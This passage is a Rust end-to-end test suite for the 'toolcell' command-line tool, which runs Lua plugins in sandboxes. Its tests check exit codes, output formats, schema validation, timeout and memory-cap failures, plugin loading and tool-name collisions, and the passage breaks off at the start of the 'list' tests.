//! End-to-end tests of the `toolcell` command-line contract: the real binary, real Lua
//! plugins written into temporary directories, real sandboxes.
//!
//! Every test asserts the exit code, stdout and (where the contract says something
//! about it) stderr. The contract, in short:
//!
//! * `call`: a completed tool prints its result plus one newline and exits 0; a failed
//!   tool prints `[tool failed: MESSAGE]` plus one newline and exits 1; usage errors
//!   print one line on stderr, nothing on stdout, and exit 2.
//! * Load-time failures are reported on stderr and skip only the plugin concerned.
//! * Plugins load in a deterministic order; the first registration of a name wins.
//! * `list` prints a table, or with `--json` OpenAI-style function definitions
//!   (`--format openai|anthropic|mcp` for each provider's).
//! * Arguments that fail the tool's `params_schema` are a usage error; the tool never runs.
//! * `--config`, `--root`, `CLM_DEBUG_LOG`/`TOOLCELL_DEBUG_LOG` and `--allow-http`
//!   behave as clm-tool(5) and docs/cli.md and docs/capabilities.md describe.

use std::collections::BTreeMap;
use std::fmt;
use std::fs;
use std::io::{ErrorKind, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::thread;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tempfile::TempDir;

/// The binary under test.
const TOOLCELL: &str = env!("CARGO_BIN_EXE_toolcell");

/// A run taking longer than this is a hang, whatever the machine's speed.
const HANG_LIMIT: Duration = Duration::from_secs(120);

// ---------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------

/// Writes `content` to `path`, creating parent directories.
fn write(path: &Path, content: impl AsRef<[u8]>) {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent)
            .unwrap_or_else(|error| panic!("create {}: {error}", parent.display()));
    }
    fs::write(path, content).unwrap_or_else(|error| panic!("write {}: {error}", path.display()));
}

/// A fresh temporary directory.
fn temp_dir() -> TempDir {
    TempDir::new().expect("create a temporary directory")
}

/// A temporary plugin directory holding `plugins` (file name, content), written in
/// the order given.
fn plugin_dir(plugins: &[(&str, &str)]) -> TempDir {
    let dir = temp_dir();
    for (name, content) in plugins {
        write(&dir.path().join(name), content);
    }
    dir
}

/// The compiled-code cache shared by every run of this test suite.
fn cache_dir() -> PathBuf {
    std::env::temp_dir().join("toolcell-test-cache")
}

/// A working directory of its own: the default file root of runs that give none, so it
/// must not contain the cache (the runtime would not use it) nor be the source tree.
fn neutral_dir() -> PathBuf {
    let dir = std::env::temp_dir().join("toolcell-test-cwd");
    fs::create_dir_all(&dir).expect("create the neutral working directory");
    dir
}

/// A `toolcell` command with a clean, predictable environment: the shared code cache,
/// no debug log, no log filter, no proxies, and a neutral working directory.
fn toolcell() -> Command {
    warm_cache();
    bare_toolcell()
}

/// Compiles the Lua runtime into the shared cache once per test run, so that no test's
/// stderr depends on whether it was the first to need it (a first compilation says so
/// on stderr, see `a_first_compilation_says_so_on_stderr`).
fn warm_cache() {
    static WARM: std::sync::Once = std::sync::Once::new();
    WARM.call_once(|| {
        let plugins = plugin_dir(&[("warm.lua", "")]);
        let _ = bare_toolcell()
            .arg("list")
            .arg("--plugins")
            .arg(plugins.path())
            .output();
    });
}

/// [`toolcell`] without warming the cache first.
fn bare_toolcell() -> Command {
    let mut command = Command::new(TOOLCELL);
    command
        .env("TOOLCELL_CACHE_DIR", cache_dir())
        .current_dir(neutral_dir());
    for name in [
        "CLM_DEBUG_LOG",
        "TOOLCELL_DEBUG_LOG",
        "RUST_LOG",
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "http_proxy",
        "https_proxy",
        "all_proxy",
    ] {
        command.env_remove(name);
    }
    command
}

/// What a finished run left behind.
struct Run {
    command: String,
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl fmt::Display for Run {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "\n--- command: {}\n--- exit code: {:?}\n--- stdout:\n{}\n--- stderr:\n{}\n---",
            self.command, self.code, self.stdout, self.stderr
        )
    }
}

impl Run {
    /// The tool completed with `result`: exit 0 and stdout exactly `result` + "\n".
    fn assert_completed(&self, result: &str) {
        assert_eq!(self.code, Some(0), "expected exit code 0{self}");
        assert_eq!(
            self.stdout,
            format!("{result}\n"),
            "stdout must be exactly the result and one newline{self}"
        );
    }

    /// The tool failed: exit 1 and stdout exactly "[tool failed: MESSAGE]\n". Returns
    /// MESSAGE.
    fn failure(&self) -> String {
        assert_eq!(self.code, Some(1), "expected exit code 1{self}");
        let message = self
            .stdout
            .strip_prefix("[tool failed: ")
            .and_then(|rest| rest.strip_suffix("]\n"))
            .unwrap_or_else(|| {
                panic!("stdout must be exactly \"[tool failed: MESSAGE]\\n\"{self}")
            });
        assert!(
            !message.ends_with('\n'),
            "the failure line must end with exactly one newline{self}"
        );
        assert!(!message.is_empty(), "the failure message is empty{self}");
        message.to_string()
    }

    /// A usage error: exit 2, nothing on stdout, one line on stderr. Returns the line.
    fn usage_error(&self) -> String {
        assert_eq!(self.code, Some(2), "expected exit code 2{self}");
        assert_eq!(
            self.stdout, "",
            "a usage error prints nothing on stdout{self}"
        );
        let lines: Vec<&str> = self.stderr.trim_end().lines().collect();
        assert_eq!(lines.len(), 1, "a usage error is one line on stderr{self}");
        assert!(
            !lines[0].trim().is_empty(),
            "the usage error line is empty{self}"
        );
        lines[0].to_string()
    }

    /// The stderr lines that contain every one of `needles`.
    fn stderr_lines_with(&self, needles: &[&str]) -> Vec<String> {
        self.stderr
            .lines()
            .filter(|line| needles.iter().all(|needle| line.contains(needle)))
            .map(str::to_string)
            .collect()
    }

    /// Asserts some stderr line contains all of `needles`.
    fn assert_stderr_line(&self, needles: &[&str]) {
        assert!(
            !self.stderr_lines_with(needles).is_empty(),
            "expected a stderr line containing all of {needles:?}{self}"
        );
    }
}

/// Runs `command` to completion (killing it if it hangs) and captures its output.
fn run(command: &mut Command) -> Run {
    let description = format!("{command:?}");
    command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command
        .spawn()
        .unwrap_or_else(|error| panic!("cannot start {description}: {error}"));
    let stdout = drain(child.stdout.take().expect("piped stdout"));
    let stderr = drain(child.stderr.take().expect("piped stderr"));
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().expect("wait for toolcell") {
            break status;
        }
        if started.elapsed() > HANG_LIMIT {
            let _ = child.kill();
            let _ = child.wait();
            panic!("toolcell hung for more than {HANG_LIMIT:?}: {description}");
        }
        thread::sleep(Duration::from_millis(5));
    };
    Run {
        command: description,
        code: status.code(),
        stdout: stdout.join().expect("stdout reader"),
        stderr: stderr.join().expect("stderr reader"),
    }
}

fn drain(mut pipe: impl Read + Send + 'static) -> thread::JoinHandle<String> {
    thread::spawn(move || {
        let mut bytes = Vec::new();
        let _ = pipe.read_to_end(&mut bytes);
        String::from_utf8_lossy(&bytes).into_owned()
    })
}

/// `toolcell call --plugins DIR TOOL [ARGS_JSON]`.
fn call(plugins: &Path, tool: &str, args_json: Option<&str>) -> Run {
    let mut command = toolcell();
    command.arg("call").arg("--plugins").arg(plugins).arg(tool);
    if let Some(args_json) = args_json {
        command.arg(args_json);
    }
    run(&mut command)
}

/// Runs a `toolcell list --json ...` command that must succeed; parses its JSON array.
fn list_json(command: &mut Command) -> (Run, Vec<Value>) {
    let output = run(command);
    assert_eq!(output.code, Some(0), "list --json must succeed{output}");
    let parsed: Value = serde_json::from_str(&output.stdout)
        .unwrap_or_else(|error| panic!("stdout of list --json is not JSON: {error}{output}"));
    let Value::Array(functions) = parsed else {
        panic!("list --json must print a JSON array{output}");
    };
    (output, functions)
}

/// The names of the functions of a `list --json` array.
fn function_names(functions: &[Value]) -> Vec<String> {
    functions
        .iter()
        .map(|function| {
            function["function"]["name"]
                .as_str()
                .unwrap_or_else(|| panic!("a function without a name: {function}"))
                .to_string()
        })
        .collect()
}

/// Every file under `dir` with its content, for "nothing was written" checks.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut files = BTreeMap::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(current) = pending.pop() {
        for entry in fs::read_dir(&current).expect("read a directory") {
            let path = entry.expect("a directory entry").path();
            let metadata = fs::symlink_metadata(&path).expect("metadata");
            if metadata.is_dir() {
                pending.push(path.clone());
                files.insert(path, b"<dir>".to_vec());
            } else if metadata.is_symlink() {
                let target = fs::read_link(&path).expect("read a symlink");
                files.insert(path, format!("<link {}>", target.display()).into_bytes());
            } else {
                let content = fs::read(&path).expect("read a file");
                files.insert(path, content);
            }
        }
    }
    files
}

/// A one-shot HTTP server on 127.0.0.1: answers the first connection with a canned
/// `200 OK` and reports the request it read.
fn serve_once() -> (u16, mpsc::Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind a test HTTP server");
    let port = listener.local_addr().expect("local address").port();
    let (sender, receiver) = mpsc::channel();
    thread::spawn(move || {
        let Ok((mut stream, _)) = listener.accept() else {
            return;
        };
        let _ = stream.set_read_timeout(Some(Duration::from_secs(20)));
        let mut request = Vec::new();
        let mut buffer = [0u8; 4096];
        while !request.windows(4).any(|window| window == b"\r\n\r\n") {
            match stream.read(&mut buffer) {
                Ok(0) | Err(_) => break,
                Ok(read) => request.extend_from_slice(&buffer[..read]),
            }
        }
        let _ = stream.write_all(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 14\r\n\
              Connection: close\r\n\r\ncanned-payload",
        );
        let _ = stream.flush();
        let _ = sender.send(String::from_utf8_lossy(&request).into_owned());
    });
    (port, receiver)
}

/// A plugin whose tools report both return values of `clm.read_file` and
/// `clm.write_file` as `FIRST|TYPE_OF_SECOND|SECOND`.
const FILES_PLUGIN: &str = r#"
local function report(first, second)
  return tostring(first) .. "|" .. type(second) .. "|" .. tostring(second)
end
clm.tool_register("read", {
  invoke = function(args, ctx)
    ctx:complete(report(clm.read_file(args.path)))
  end,
})
clm.tool_register("write", {
  invoke = function(args, ctx)
    ctx:complete(report(clm.write_file(args.path, args.content)))
  end,
})
"#;

/// Runs a tool of [`FILES_PLUGIN`] with `--root root`.
fn file_tool(plugins: &Path, root: &Path, tool: &str, args: Value) -> Run {
    run(toolcell()
        .arg("call")
        .arg("--plugins")
        .arg(plugins)
        .arg("--root")
        .arg(root)
        .arg(tool)
        .arg(args.to_string()))
}

/// Whether a [`FILES_PLUGIN`] result is a refusal: nil plus a non-empty error string.
fn refusal(output: &Run, what: &str) -> Result<(), String> {
    if output.code != Some(0) {
        return Err(format!(
            "{what}: the report tool itself must complete{output}"
        ));
    }
    let Some(line) = output.stdout.strip_suffix('\n') else {
        return Err(format!("{what}: stdout must end with a newline{output}"));
    };
    let parts: Vec<&str> = line.splitn(3, '|').collect();
    match parts.as_slice() {
        ["nil", "string", error] if !error.trim().is_empty() => Ok(()),
        _ => Err(format!(
            "{what} must return nil and a non-empty error string{output}"
        )),
    }
}

/// Asserts a [`FILES_PLUGIN`] result is a refusal.
fn assert_refused(output: &Run, what: &str) {
    if let Err(problem) = refusal(output, what) {
        panic!("{problem}");
    }
}

// ---------------------------------------------------------------------------------
// call: completion
// ---------------------------------------------------------------------------------

#[test]
fn call_prints_exactly_the_result_and_one_newline_and_exits_0() {
    let plugins = plugin_dir(&[(
        "greeter.lua",
        r#"
print("printed at load time")
clm.tool_register("greet", {
  description = "Greets",
  invoke = function(args, ctx)
    print("printed inside invoke")
    ctx:log("logged inside invoke")
    ctx:complete("Grüße, " .. args.name .. "!\nsecond line ✓")
  end,
})
clm.tool_register("trailing", {
  invoke = function(args, ctx) ctx:complete("ends with a newline\n") end,
})
clm.tool_register("empty", {
  invoke = function(args, ctx) ctx:complete("") end,
})
"#,
    )]);
    let output = call(plugins.path(), "greet", Some(r#"{"name":"world"}"#));
    output.assert_completed("Grüße, world!\nsecond line ✓");
    assert!(
        !output.stderr.contains("printed") && !output.stderr.contains("logged"),
        "print/ctx:log go nowhere without a debug log{output}"
    );
    call(plugins.path(), "trailing", None).assert_completed("ends with a newline\n");
    call(plugins.path(), "empty", None).assert_completed("");
}

#[test]
fn call_passes_the_arguments_and_defaults_them_to_an_empty_object() {
    let plugins = plugin_dir(&[(
        "args.lua",
        r#"
clm.tool_register("inspect", {
  invoke = function(args, ctx)
    local count = 0
    for _ in pairs(args) do count = count + 1 end
    ctx:complete(type(args) .. " " .. count .. " " .. ctx:args_raw() .. " " .. tostring(args.n))
  end,
})
"#,
    )]);
    call(plugins.path(), "inspect", None).assert_completed("table 0 {} nil");
    call(plugins.path(), "inspect", Some(r#"{"n":42}"#)).assert_completed(r#"table 1 {"n":42} 42"#);
}

#[test]
fn call_finds_tools_in_every_plugin_directory_given() {
    let first = plugin_dir(&[(
        "one.lua",
        r#"clm.tool_register("from_one", { invoke = function(_, ctx) ctx:complete("one") end })"#,
    )]);
    let second = plugin_dir(&[(
        "two.lua",
        r#"clm.tool_register("from_two", { invoke = function(_, ctx) ctx:complete("two") end })"#,
    )]);
    for (tool, result) in [("from_one", "one"), ("from_two", "two")] {
        run(toolcell()
            .arg("call")
            .arg("--plugins")
            .arg(first.path())
            .arg("--plugins")
            .arg(second.path())
            .arg(tool))
        .assert_completed(result);
    }
}

#[test]
fn call_without_plugins_uses_the_config_dir_under_home() {
    let home = temp_dir();
    write(
        &home.path().join(".config/toolcell/plugins/homely.lua"),
        r#"clm.tool_register("homely", { description = "At home", invoke = function(_, ctx) ctx:complete("found under HOME") end })"#,
    );
    run(toolcell().env("HOME", home.path()).args(["call", "homely"]))
        .assert_completed("found under HOME");

    let (_, functions) = list_json(toolcell().env("HOME", home.path()).args(["list", "--json"]));
    assert_eq!(function_names(&functions), ["homely"]);

    // A HOME without the directory: a missing directory is a usage error.
    let empty_home = temp_dir();
    let line = run(toolcell()
        .env("HOME", empty_home.path())
        .args(["call", "homely"]))
    .usage_error();
    assert!(
        line.contains(".config/toolcell/plugins"),
        "the error should name the missing default directory: {line}"
    );
}

// ---------------------------------------------------------------------------------
// call: failures (exit 1, "[tool failed: MESSAGE]")
// ---------------------------------------------------------------------------------

#[test]
fn ctx_fail_prints_the_message_and_exits_1() {
    let plugins = plugin_dir(&[(
        "quota.lua",
        r#"
clm.tool_register("spend", {
  invoke = function(args, ctx) ctx:fail("the quota is exhausted") end,
})
"#,
    )]);
    let output = call(plugins.path(), "spend", None);
    assert_eq!(output.failure(), "the quota is exhausted", "{output}");
}

#[test]
fn a_lua_error_fails_the_call_with_file_and_line() {
    let plugins = plugin_dir(&[(
        "broken.lua",
        r#"clm.tool_register("explode", {
  invoke = function(args, ctx)
    error("kaboom")
  end,
})
clm.tool_register("index_nil", {
  invoke = function(args, ctx)
    local missing = nil
    return missing.field
  end,
})
"#,
    )]);
    let output = call(plugins.path(), "explode", None);
    let message = output.failure();
    assert!(
        message.contains("broken.lua:3:") && message.contains("kaboom"),
        "the Lua error must say where and what: {message}{output}"
    );

    let output = call(plugins.path(), "index_nil", None);
    let message = output.failure();
    assert!(
        message.contains("broken.lua:9:") && message.contains("nil"),
        "the Lua error must say where and what: {message}{output}"
    );
}

#[test]
fn passing_the_call_deadline_fails_the_call() {
    let plugins = plugin_dir(&[(
        "spinner.lua",
        r#"
clm.tool_register("spin", {
  timeout_ms = 200,
  invoke = function(args, ctx)
    while true do end
  end,
})
"#,
    )]);
    let output = call(plugins.path(), "spin", None);
    let message = output.failure().to_lowercase();
    assert!(
        message.contains("timed out")
            || message.contains("deadline")
            || message.contains("timeout"),
        "the failure must say the deadline passed: {message}{output}"
    );
}

#[test]
fn reaching_the_memory_cap_fails_the_call() {
    let plugins = plugin_dir(&[(
        "hog.lua",
        r#"
clm.tool_register("hoard", {
  invoke = function(args, ctx)
    local hoard = {}
    for i = 1, 100000000 do
      hoard[i] = string.rep("x", 1024) .. i
    end
    ctx:complete("never: " .. #hoard)
  end,
})
"#,
    )]);
    let output = call(plugins.path(), "hoard", None);
    let message = output.failure();
    assert!(
        message.to_lowercase().contains("memory"),
        "the failure must say memory ran out: {message}{output}"
    );
}

#[test]
fn ending_an_invocation_twice_fails_the_call() {
    let plugins = plugin_dir(&[(
        "twice.lua",
        r#"
clm.tool_register("complete_twice", {
  invoke = function(args, ctx)
    ctx:complete("first")
    ctx:complete("second")
  end,
})
clm.tool_register("complete_then_fail", {
  invoke = function(args, ctx)
    ctx:complete("first")
    ctx:fail("second")
  end,
})
"#,
    )]);
    for (tool, second_call) in [
        ("complete_twice", "ctx:complete"),
        ("complete_then_fail", "ctx:fail"),
    ] {
        let output = call(plugins.path(), tool, None);
        let message = output.failure();
        assert!(
            message.contains(second_call) && message.contains("twice.lua:"),
            "the failure must name the second call and where it was made: {message}{output}"
        );
    }
}

#[test]
fn returning_without_completing_fails_the_call() {
    let plugins = plugin_dir(&[(
        "forgetful.lua",
        r#"
clm.tool_register("forget", {
  invoke = function(args, ctx)
    local ignored = args
  end,
})
"#,
    )]);
    let output = call(plugins.path(), "forget", None);
    let message = output.failure();
    assert!(
        message.to_lowercase().contains("complete"),
        "the failure must say the invocation never completed: {message}{output}"
    );
}

// ---------------------------------------------------------------------------------
// call: usage errors (exit 2, one line on stderr, nothing on stdout)
// ---------------------------------------------------------------------------------

/// A plugin whose tool leaves a mark in the file root when it runs.
const MARKING_PLUGIN: &str = r#"
clm.tool_register("echo", {
  invoke = function(args, ctx)
    clm.write_file("ran.txt", "the tool ran")
    ctx:complete("echoed")
  end,
})
"#;

#[test]
fn an_unknown_tool_is_a_usage_error_with_a_suggestion() {
    let plugins = plugin_dir(&[("echo.lua", MARKING_PLUGIN)]);
    let line = call(plugins.path(), "ehco", None).usage_error();
    assert!(
        line.contains("ehco") && line.contains("echo"),
        "the error must name the unknown tool and suggest 'echo': {line}"
    );
    let line = call(plugins.path(), "completely_different_name", None).usage_error();
    assert!(
        line.contains("completely_different_name"),
        "the error must name the unknown tool: {line}"
    );
}

#[test]
fn a_hidden_tool_is_unknown_to_call_unless_include_hidden() {
    let plugins = plugin_dir(&[(
        "helpers.lua",
        r#"clm.tool_register("internal", { hidden = true, invoke = function(_, ctx) ctx:complete("reached") end })"#,
    )]);
    let refused = run(toolcell()
        .args(["call", "--plugins"])
        .arg(plugins.path())
        .arg("internal"));
    let line = refused.usage_error();
    assert!(line.contains("unknown tool 'internal'"), "{refused}");
    let reached = run(toolcell()
        .args(["call", "--include-hidden", "--plugins"])
        .arg(plugins.path())
        .arg("internal"));
    assert_eq!(reached.code, Some(0), "{reached}");
    assert_eq!(reached.stdout, "reached\n", "{reached}");
}

#[test]
fn arguments_that_are_not_a_json_object_are_a_usage_error() {
    let plugins = plugin_dir(&[("echo.lua", MARKING_PLUGIN)]);
    let root = temp_dir();
    for args in ["{not json", "", "[1, 2]", "42", "\"text\"", "null", "true"] {
        let output = run(toolcell()
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("--root")
            .arg(root.path())
            .arg("echo")
            .arg(args));
        output.usage_error();
        assert!(
            !root.path().join("ran.txt").exists(),
            "the tool must not run with invalid arguments {args:?}{output}"
        );
    }
}

const CHECKED_MARKING_PLUGIN: &str = r#"
clm.tool_register("greet", {
  params_schema = {
    type = "object",
    properties = { name = { type = "string" }, times = { type = "integer", minimum = 1 } },
    required = { "name" },
  },
  invoke = function(args, ctx)
    clm.write_file("ran.txt", "the tool ran")
    ctx:complete("hi " .. args.name)
  end,
})
"#;

#[test]
fn arguments_that_fail_the_schema_are_a_usage_error_and_the_tool_never_runs() {
    let plugins = plugin_dir(&[("greet.lua", CHECKED_MARKING_PLUGIN)]);
    let root = temp_dir();
    let cases = [
        (
            r#"{"name": 5}"#,
            r#"error: invalid arguments for 'greet': value at `/name` is not of type "string""#,
        ),
        (
            r#"{"times": 0}"#,
            r#"error: invalid arguments for 'greet': "name" is a required property; value at `/times` is less than the minimum of 1"#,
        ),
    ];
    for (args, expected) in cases {
        let output = run(toolcell()
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("--root")
            .arg(root.path())
            .arg("greet")
            .arg(args));
        assert_eq!(output.usage_error(), expected, "{args}{output}");
        assert!(
            !root.path().join("ran.txt").exists(),
            "the tool must not run with arguments that fail its schema {args}{output}"
        );
    }
    let output = run(toolcell()
        .arg("call")
        .arg("--plugins")
        .arg(plugins.path())
        .arg("--root")
        .arg(root.path())
        .arg("greet")
        .arg(r#"{"name": "you", "times": 2}"#));
    output.assert_completed("hi you");
}

#[test]
fn a_tool_with_an_invalid_schema_is_reported_and_not_registered() {
    let plugins = plugin_dir(&[(
        "odd.lua",
        r#"
clm.tool_register("odd", {
  params_schema = { type = "object", properties = { n = { minimum = "one" } } },
  invoke = function(_, ctx) ctx:complete("") end,
})
clm.tool_register("even", { invoke = function(_, ctx) ctx:complete("even") end })
"#,
    )]);
    let output = call(plugins.path(), "even", None);
    output.assert_completed("even");
    output.assert_stderr_line(&[
        "odd.lua",
        "'odd'",
        "invalid schema",
        "/properties/n/minimum",
    ]);
    let output = call(plugins.path(), "odd", None);
    assert_eq!(
        output.code,
        Some(2),
        "the rejected tool is not registered{output}"
    );
    output.assert_stderr_line(&[
        "error: tool 'odd' is unavailable: tool 'odd' of plugin odd.lua has an invalid schema \
         and is not registered: at `/properties/n/minimum` in the schema",
    ]);
}

#[test]
fn a_missing_plugin_directory_is_a_usage_error() {
    let plugins = plugin_dir(&[("echo.lua", MARKING_PLUGIN)]);
    let missing = plugins.path().join("no-such-dir");
    let line = call(&missing, "echo", None).usage_error();
    assert!(
        line.contains("no-such-dir"),
        "the error must name the directory: {line}"
    );

    // One good directory does not excuse a missing one.
    let line = run(toolcell()
        .arg("call")
        .arg("--plugins")
        .arg(plugins.path())
        .arg("--plugins")
        .arg(&missing)
        .arg("echo"))
    .usage_error();
    assert!(line.contains("no-such-dir"), "{line}");

    // list too.
    let line = run(toolcell().arg("list").arg("--plugins").arg(&missing)).usage_error();
    assert!(line.contains("no-such-dir"), "{line}");
}

#[test]
fn a_bad_config_file_is_a_usage_error() {
    let plugins = plugin_dir(&[("echo.lua", MARKING_PLUGIN)]);
    let configs = temp_dir();
    let cases = [
        ("unclosed.toml", Some("[tools.echo\nkey = 1\n")),
        ("not_a_table.toml", Some("tools = 3\n")),
        ("bad_value.toml", Some("[tools.echo]\nkey = \n")),
        ("absent.toml", None),
    ];
    for (name, content) in cases {
        let path = configs.path().join(name);
        if let Some(content) = content {
            write(&path, content);
        }
        let output = run(toolcell()
            .arg("call")
            .arg("--plugins")
            .arg(plugins.path())
            .arg("--config")
            .arg(&path)
            .arg("echo"));
        let line = output.usage_error();
        assert!(
            line.contains(name),
            "the error must name the config file {name}: {line}"
        );
    }
}

// ---------------------------------------------------------------------------------
// Loading: diagnostics on stderr, failing plugins skipped
// ---------------------------------------------------------------------------------

const HEALTHY_PLUGIN: &str = r#"
clm.tool_register("healthy", {
  description = "Still works",
  invoke = function(args, ctx) ctx:complete("healthy answer") end,
})
"#;

#[test]
fn a_plugin_with_a_syntax_error_is_reported_and_skipped() {
    let plugins = plugin_dir(&[
        ("syntax_bad.lua", "local x = = 1\n"),
        ("z_healthy.lua", HEALTHY_PLUGIN),
    ]);
    let output = call(plugins.path(), "healthy", None);
    output.assert_completed("healthy answer");
    output.assert_stderr_line(&["syntax_bad.lua", "unexpected symbol"]);
}

#[test]
fn a_plugin_failing_at_load_time_is_reported_and_skipped() {
    let plugins = plugin_dir(&[
        ("a_healthy.lua", HEALTHY_PLUGIN),
        (
            "load_error.lua",
            r#"
clm.tool_register("never_registered", { invoke = function(_, ctx) ctx:complete("x") end })
error("broken at load time")
"#,
        ),
    ]);
    let output = call(plugins.path(), "healthy", None);
    output.assert_completed("healthy answer");
    output.assert_stderr_line(&["load_error.lua", "broken at load time"]);

    // Nothing of the failed plugin is registered, even what it registered before failing.
    let (_, functions) = list_json(
        toolcell()
            .arg("list")
            .arg("--json")
            .arg("--plugins")
            .arg(plugins.path()),
    );
    assert_eq!(function_names(&functions), ["healthy"]);

    // Calling one of its tools says why it cannot be called, as a usage error (after the
    // load failure's own line).
    let output = call(plugins.path(), "never_registered", None);
    assert_eq!(
        (output.code, output.stdout.as_str()),
        (Some(2), ""),
        "{output}"
    );
    assert_eq!(
        output.stderr.lines().last(),
        Some(
            "error: tool 'never_registered' is unavailable: plugin load_error.lua failed to load: \
             load_error.lua:3: broken at load time"
        ),
        "{output}"
    );
    // The same for the plugin packed into a .wasm, whose script names the tool.
    let packed = temp_dir();
    let output = run(toolcell()
        .arg("pack")
        .arg(plugins.path().join("load_error.lua"))
        .arg("--no-check")
        .arg("-o")
        .arg(packed.path().join("load_error.wasm")));
    assert_eq!(output.code, Some(0), "{output}");
    let output = call(packed.path(), "never_registered", None);
    assert_eq!(output.code, Some(2), "{output}");
    output.assert_stderr_line(&[
        "error: tool 'never_registered' is unavailable: plugin load_error.wasm failed to load:",
    ]);
    // A name no plugin offers stays unknown.
    let output = call(plugins.path(), "never_offered", None);
    assert_eq!(output.code, Some(2), "{output}");
    assert_eq!(
        output.stderr.lines().last(),
        Some("error: unknown tool 'never_offered'"),
        "{output}"
    );
}

#[test]
fn a_plugin_passing_the_load_deadline_is_reported_and_skipped() {
    let plugins = plugin_dir(&[
        ("a_healthy.lua", HEALTHY_PLUGIN),
        ("spin_at_load.lua", "while true do end\n"),
        (
            "z_healthy.lua",
            r#"clm.tool_register("also_healthy", { invoke = function(_, ctx) ctx:complete("also fine") end })"#,
        ),
    ]);
    let output = call(plugins.path(), "healthy", None);
    output.assert_completed("healthy answer");
    let reported = output.stderr_lines_with(&["spin_at_load.lua"]);
    assert!(
        reported.iter().any(|line| {
            let line = line.to_lowercase();
            line.contains("deadline") || line.contains("timed out") || line.contains("500 ms")
        }),
        "the load-time deadline must be reported with the file name{output}"
    );
    call(plugins.path(), "also_healthy", None).assert_completed("also fine");
}

#[test]
fn an_invalid_wasm_plugin_is_reported_and_skipped_and_other_files_are_ignored() {
    let plugins = plugin_dir(&[
        ("a_healthy.lua", HEALTHY_PLUGIN),
        ("junk.wasm", "\0asm this is not a component"),
        // Not plugin files: never loaded.
        (
            "notes.txt",
            r#"clm.tool_register("from_txt", { invoke = function(_, ctx) ctx:complete("x") end })"#,
        ),
        (
            "backup.lua.bak",
            r#"clm.tool_register("from_bak", { invoke = function(_, ctx) ctx:complete("x") end })"#,
        ),
    ]);
    let output = call(plugins.path(), "healthy", None);
    output.assert_completed("healthy answer");
    output.assert_stderr_line(&["junk.wasm"]);
    for tool in ["from_txt", "from_bak"] {
        // Exit 2 as an unknown tool (stderr also holds the junk.wasm report).
        let output = call(plugins.path(), tool, None);
        assert_eq!(output.code, Some(2), "{tool} must be unknown{output}");
        assert_eq!(output.stdout, "", "{output}");
        output.assert_stderr_line(&[tool]);
    }
}

// ---------------------------------------------------------------------------------
// Load order and tool-name collisions
// ---------------------------------------------------------------------------------

fn tool_plugin(tool: &str, answer: &str) -> String {
    format!(
        r#"clm.tool_register("{tool}", {{ description = "from {answer}", invoke = function(_, ctx) ctx:complete("{answer}") end }})"#
    )
}

#[test]
fn plugins_load_directory_by_directory_and_file_by_file_in_name_order() {
    // Written out of order, so neither creation order nor chance makes this pass.
    let first = plugin_dir(&[
        ("c.lua", &tool_plugin("t_c", "c")),
        ("a.lua", &tool_plugin("t_a", "a")),
        ("b.lua", &tool_plugin("t_b", "b")),
    ]);
    let second = plugin_dir(&[("0.lua", &tool_plugin("u_0", "0"))]);
    let list = || {
        list_json(
            toolcell()
                .args(["list", "--json", "--plugins"])
                .arg(first.path())
                .arg("--plugins")
                .arg(second.path()),
        )
    };
    let (one, functions) = list();
    assert_eq!(
        function_names(&functions),
        ["t_a", "t_b", "t_c", "u_0"],
        "{one}"
    );
    let (two, _) = list();
    assert_eq!(
        one.stdout, two.stdout,
        "the order must be the same on every run"
    );
}

#[test]
fn a_colliding_tool_name_across_directories_keeps_the_first() {
    let first = plugin_dir(&[("zeta.lua", &tool_plugin("dup", "zeta wins"))]);
    let second = plugin_dir(&[(
        "alpha.lua",
        r#"
clm.tool_register("dup", { invoke = function(_, ctx) ctx:complete("alpha wins") end })
clm.tool_register("alpha_only", { invoke = function(_, ctx) ctx:complete("alpha still loads") end })
"#,
    )]);
    let both = |a: &Path, b: &Path, tool: &str| {
        run(toolcell()
            .arg("call")
            .arg("--plugins")
            .arg(a)
            .arg("--plugins")
            .arg(b)
            .arg(tool))
    };

    let output = both(first.path(), second.path(), "dup");
    output.assert_completed("zeta wins");
    output.assert_stderr_line(&["dup", "zeta", "alpha"]);
    // Only the colliding registration is rejected: the rest of that plugin loads.
    both(first.path(), second.path(), "alpha_only").assert_completed("alpha still loads");

    // The other way round, the other one is first.
    let output = both(second.path(), first.path(), "dup");
    output.assert_completed("alpha wins");
    output.assert_stderr_line(&["dup", "zeta", "alpha"]);
}

#[test]
fn a_colliding_tool_name_in_one_directory_keeps_the_first_file_by_name() {
    // b_late.lua is written first; a_early.lua still loads first.
    let plugins = plugin_dir(&[
        ("b_late.lua", &tool_plugin("same", "from b_late")),
        ("a_early.lua", &tool_plugin("same", "from a_early")),
    ]);
    let output = call(plugins.path(), "same", None);
    output.assert_completed("from a_early");
    output.assert_stderr_line(&["same", "a_early", "b_late"]);

    // The second stays reachable by its path, and models see it under the path's
    // wire name.
    call(plugins.path(), "b_late/same", None).assert_completed("from b_late");
    let (_, functions) = list_json(
        toolcell()
            .args(["list", "--json", "--plugins"])
            .arg(plugins.path()),
    );
    assert_eq!(function_names(&functions), ["same", "b_late__same"]);
    assert_eq!(functions[0]["function"]["description"], "from from a_early");
    assert_eq!(functions[1]["function"]["description"], "from from b_late");
    call(plugins.path(), "b_late__same", None).assert_completed("from b_late");
}

// ---------------------------------------------------------------------------------
// list
// ---------------------------------------------------------------------------------

#[test]
